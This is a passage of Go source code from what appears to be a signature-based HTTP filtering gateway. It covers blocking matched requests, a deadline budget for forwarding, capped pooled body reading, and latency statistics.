		w.Header().Set("X-Psigene-Signatures", strings.Join(verdict.Matched, ","))
		http.Error(w, "request blocked by signature", http.StatusForbidden)
		return
	}

	// Deadline budget: scoring spent `elapsed` of its slice; the proxy
	// leg gets the remainder of ScoreBudget+UpstreamTimeout. A detector
	// that consumed everything fails here instead of hanging the client.
	remaining := g.opts.ScoreBudget + g.opts.UpstreamTimeout - elapsed
	if remaining <= 0 {
		g.stats.budgetSpent.Add(1)
		http.Error(w, "gateway: deadline budget exhausted by scoring", http.StatusGatewayTimeout)
		return
	}
	g.forward(w, r, body, remaining)
}

// errBodyTooLarge distinguishes the over-cap case from body read errors.
var errBodyTooLarge = errors.New("gateway: request body exceeds cap")

// bodyBuf is a pooled request-body read buffer. The pointer wrapper keeps
// the grown backing array with the pool entry across requests.
type bodyBuf struct{ b []byte }

var bodyPool = sync.Pool{New: func() any { return new(bodyBuf) }}

// readBodyInto reads r to EOF into bb's buffer, stopping as soon as the
// length exceeds limit (one byte past the cap is enough to distinguish
// "exactly at" from "over"). The returned slice aliases bb.
func readBodyInto(bb *bodyBuf, r io.Reader, limit int64) ([]byte, error) {
	buf := bb.b[:0]
	for int64(len(buf)) <= limit {
		if len(buf) == cap(buf) {
			buf = append(buf, 0)[:len(buf)]
		}
		n, err := r.Read(buf[len(buf):cap(buf)])
		buf = buf[:len(buf)+n]
		if err == io.EOF {
			break
		}
		if err != nil {
			bb.b = buf
			return nil, err
		}
	}
	bb.b = buf
	return buf, nil
}

// inbound converts the wire request into the httpx view the detectors
// score, reading at most MaxBodyBytes of body into bb's pooled buffer.
// The body is returned for replay to the upstream; it aliases bb and is
// valid until bb returns to the pool.
func (g *Gateway) inbound(r *http.Request, bb *bodyBuf) (httpx.Request, []byte, error) {
	// Server-side requests are origin-form: the host lives in r.Host
	// (r.URL.Hostname() would be empty), possibly with a port attached.
	host := r.Host
	if h, _, err := net.SplitHostPort(host); err == nil {
		host = h
	}
	req := httpx.Request{
		Method:   strings.ToUpper(r.Method),
		Host:     host,
		Path:     r.URL.Path,
		RawQuery: r.URL.RawQuery,
	}
	if req.Path == "" {
		req.Path = "/"
	}
	var body []byte
	if r.Body != nil {
		b, err := readBodyInto(bb, r.Body, g.opts.MaxBodyBytes)
		if err != nil {
			return req, nil, fmt.Errorf("gateway: read body: %w", err)
		}
		if int64(len(b)) > g.opts.MaxBodyBytes {
			return req, nil, errBodyTooLarge
		}
		if len(b) > 0 {
			body = b
			req.Body = string(b)
		}
	}
	return req, body, nil
}

// recordLatency appends one scoring duration to the stats ring.
func (g *Gateway) recordLatency(d time.Duration) {
	g.mu.Lock()
	g.ring[g.ringNext] = d
	g.ringNext = (g.ringNext + 1) % latencyRingSize
	if g.ringLen < latencyRingSize {
		g.ringLen++
	}
	g.mu.Unlock()
}

// latencyWindow copies the ring for summarizing outside the lock.
func (g *Gateway) latencyWindow() []time.Duration {
	g.mu.Lock()
	out := make([]time.Duration, g.ringLen)
	copy(out, g.ring[:g.ringLen])
	g.mu.Unlock()
	return out
}
